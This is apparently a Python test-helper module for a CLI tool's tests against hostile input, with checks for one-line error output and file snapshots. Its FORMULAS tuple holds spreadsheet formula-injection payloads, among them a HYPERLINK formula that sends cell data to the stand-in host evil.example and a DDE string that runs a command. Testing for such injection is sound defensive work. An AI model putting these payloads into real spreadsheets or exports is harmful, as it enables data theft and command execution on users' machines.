"""Helpers of the hostile corpus tests: formula strings, one-line error checks, folder snapshots."""

from __future__ import annotations

import hashlib
from pathlib import Path

#: Titles and outlets a spreadsheet would run as formulas.
FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1")


def one_line_error(result, *needles: str) -> str:
    """Assert a CLI result is one error line (exit 1, no traceback) containing ``needles``."""
    assert result.exit_code == 1, (result.exit_code, result.stdout, result.stderr, result.exception)
    assert result.exception is None or isinstance(result.exception, SystemExit)
    message = result.stderr.strip()
    assert "Traceback" not in result.stderr + result.stdout
    assert message.startswith("error:") and "\n" not in message, message
    for needle in needles:
        assert needle in message, message
    return message


def snapshot(folder: Path) -> dict[str, str]:
    """Every file under ``folder`` with a hash of its bytes (to show nothing was written)."""
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(folder.rglob("*")) if p.is_file()}
